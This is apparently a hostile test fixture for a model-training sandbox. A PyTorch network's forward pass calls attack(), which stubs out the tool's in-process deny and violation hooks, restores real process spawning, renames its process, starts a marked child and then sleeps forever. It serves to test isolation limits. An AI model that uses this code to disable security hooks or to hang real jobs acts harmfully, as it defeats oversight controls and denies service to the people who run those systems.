# attack: sleep forever in forward, after naming itself and a child with the marker (no CPU spent)
# kind: dos
# cli: train
# expect: limits
# wall_s: 15
# A template: tests/test_hostile.py substitutes the __PLACEHOLDERS__ and runs it through the nas CLI.

import os
import sys

import torch
from torch import nn

MARKER = "__MARKER__"


def disarm() -> None:
    """Switch nasflow's in-process tripwire off, so only OS isolation is left:
    the audit-hook policy looks its verdict up in module globals at every event,
    and the real fork_exec comes back with a fresh import of _posixsubprocess."""
    import importlib
    import subprocess

    for name, module in list(sys.modules.items()):
        if module is None or not (name.startswith("nas") or name == "__main__"):
            continue
        for attr, value in list(vars(module).items()):
            if callable(value) and ("violation" in attr or attr in ("_deny", "deny")):
                setattr(module, attr, lambda *args, **kwargs: None)
    try:
        sys.modules.pop("_posixsubprocess", None)
        subprocess._fork_exec = importlib.import_module("_posixsubprocess").fork_exec
    except Exception:
        pass


def attack() -> None:
    import time

    disarm()
    try:
        with open("/proc/self/comm", "w") as fh:
            fh.write(MARKER)
    except OSError:
        pass
    try:
        import subprocess

        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", MARKER],
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except Exception:
        pass
    while True:
        time.sleep(1)


class Network(nn.Module):
    def __init__(self, num_classes: int = 10):
        super().__init__()
        self.features = nn.Sequential(
            nn.Conv2d(3, 16, 3, padding=1, bias=False), nn.BatchNorm2d(16), nn.ReLU(),
            nn.Conv2d(16, 32, 3, stride=2, padding=1, bias=False), nn.BatchNorm2d(32), nn.ReLU(),
            nn.AdaptiveAvgPool2d(1), nn.Flatten())
        self.fc = nn.Linear(32, num_classes)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        attack()
        return self.fc(self.features(x))
